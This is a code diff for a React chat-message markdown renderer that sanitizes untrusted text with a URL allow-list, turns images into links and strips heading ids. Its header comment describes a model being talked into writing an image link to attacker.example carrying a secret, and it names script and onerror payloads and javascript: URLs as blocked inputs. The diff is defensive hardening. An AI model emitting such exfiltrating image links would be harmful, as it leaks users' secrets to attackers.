@@ -1,90 +1,72 @@
 'use client';
 
-import { memo, type ReactNode } from 'react';
-import { parseBlocks, parseInline, type Block, type Inline } from './markdown/parse';
+import { Fragment, memo, type ComponentProps } from 'react';
+import { compiler, type MarkdownToJSX } from 'markdown-to-jsx';
 
 /**
- * Messages are untrusted (people and models write them). They are parsed into data
- * (`markdown/parse.ts`) and rendered as React elements only — there is no HTML string anywhere,
- * so `<script>` or `<img onerror>` in a message shows as the characters people typed. Unsafe
- * URLs (javascript:, data:…) keep their text but are not links; links open in a new tab with
- * `rel="noopener noreferrer nofollow"`; images become links (nothing loads by merely reading).
+ * Messages are untrusted (people and models write them). markdown-to-jsx turns them into React
+ * elements only — no HTML string, no innerHTML — and with `disableParsingRawHTML` raw HTML
+ * (`<script>`, `<img onerror>`) shows as the characters people typed.
+ *
+ * - Links: only http:, https:, mailto: and relative URLs (`safeUrl`). The library's default
+ *   sanitizer refuses javascript:/vbscript:/data: but lets `data:image/…` through, so we pass our
+ *   own allow-list; an unsafe link keeps its text and loses its href (an `<a>` without href is
+ *   not a link). Links open in a new tab with `rel="noopener noreferrer nofollow"`.
+ * - Images become links to the image: nothing is fetched by merely reading a message (a model
+ *   can be talked into writing `![](https://attacker.example/?q=<secret>)`).
+ * - Headings get no `id` (message text must not name elements of the page).
  */
 
-function renderInline(nodes: readonly Inline[]): ReactNode[] {
-  return nodes.map((node, i) => {
-    switch (node.type) {
-      case 'text':
-        return node.text;
-      case 'code':
-        return <code key={i}>{node.text}</code>;
-      case 'em':
-        return <em key={i}>{renderInline(node.children)}</em>;
-      case 'strong':
-        return <strong key={i}>{renderInline(node.children)}</strong>;
-      case 'break':
-        return <br key={i} />;
-      case 'link':
-        return node.href === null ? (
-          <span key={i}>{renderInline(node.children)}</span>
-        ) : (
-          <a key={i} href={node.href} title={node.title ?? undefined} target="_blank" rel="noopener noreferrer nofollow">
-            {renderInline(node.children)}
-          </a>
-        );
-    }
-  });
-}
-
-function BlockView({ block }: { block: Block }): ReactNode {
-  switch (block.type) {
-    case 'paragraph':
-      return <p>{renderInline(parseInline(block.text))}</p>;
-    case 'heading': {
-      const Heading = `h${block.level}` as const;
-      return <Heading>{renderInline(parseInline(block.text))}</Heading>;
-    }
-    case 'code':
-      return (
-        <pre>
-          <code className={block.lang ? `language-${block.lang}` : undefined}>{block.text}</code>
-        </pre>
-      );
-    case 'rule':
-      return <hr />;
-    case 'quote':
-      return <blockquote>{block.children.map((child, i) => <BlockView key={i} block={child} />)}</blockquote>;
-    case 'list': {
-      const items = block.items.map((item, i) => (
-        // A one-paragraph item renders its text directly (a tight list), as in chat apps.
-        <li key={i}>
-          {item.length === 1 && item[0]?.type === 'paragraph'
-            ? renderInline(parseInline(item[0].text))
-            : item.map((child, j) => <BlockView key={j} block={child} />)}
-        </li>
-      ));
-      return block.ordered ? <ol start={block.start === 1 ? undefined : block.start}>{items}</ol> : <ul>{items}</ul>;
-    }
-  }
-}
+const REL = 'noopener noreferrer nofollow';
+const SAFE_SCHEMES = new Set(['http', 'https', 'mailto']);
 
 /**
- * One top-level block, re-rendered only when its own source text changes: while a reply streams,
- * only its last block is parsed and rendered again, not everything above it.
+ * The URL itself when it may be a link, else null. Browsers ignore control characters and
+ * whitespace inside a scheme ("java\tscript:"), so those are removed before the check.
  */
-const TopBlock = memo(
-  function TopBlock({ block }: { source: string; block: Block }) {
-    return <BlockView block={block} />;
-  },
-  (a, b) => a.source === b.source,
-);
+export function safeUrl(value: string): string | null {
+  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\u0000-\u0020\u007f]/g, ''));
+  return scheme && !SAFE_SCHEMES.has((scheme[1] ?? '').toLowerCase()) ? null : value;
+}
 
-export const Markdown = memo(function Markdown({ content }: { content: string }) {
-  return (
-    <>
-      {parseBlocks(content).map(({ block, source }, i) => (
-        <TopBlock key={i} source={source} block={block} />
-      ))}
-    </>
+/** An image in a message: a link to it, labelled with its alt text. */
+function ImageLink({ src, alt, title }: ComponentProps<'img'>) {
+  const label = alt || 'Image';
+  return typeof src === 'string' && src ? (
+    <a href={src} title={title} target="_blank" rel={REL}>
+      {label}
+    </a>
+  ) : (
+    <span>{label}</span>
   );
+}
+
+const noId = { props: { id: undefined } };
+
+const OPTIONS: MarkdownToJSX.Options = {
+  disableParsingRawHTML: true,
+  // Always blocks (a one-line message is a paragraph too), side by side in the bubble: the
+  // streaming caret's CSS relies on the blocks being the bubble's direct children.
+  forceBlock: true,
+  wrapper: Fragment,
+  sanitizer: (value) => safeUrl(value),
+  overrides: {
+    a: { props: { target: '_blank', rel: REL } },
+    img: { component: ImageLink },
+    h1: noId,
+    h2: noId,
+    h3: noId,
+    h4: noId,
+    h5: noId,
+    h6: noId,
+  },
+};
+
+/**
+ * A message's markdown. Memoized on its text: a row re-renders for other reasons (status,
+ * measuring) without parsing again; a streamed token parses the reply again (measured by
+ * `npm run bench -- render`).
+ */
+export const Markdown = memo(function Markdown({ content }: { content: string }) {
+  return compiler(content, OPTIONS);
 });
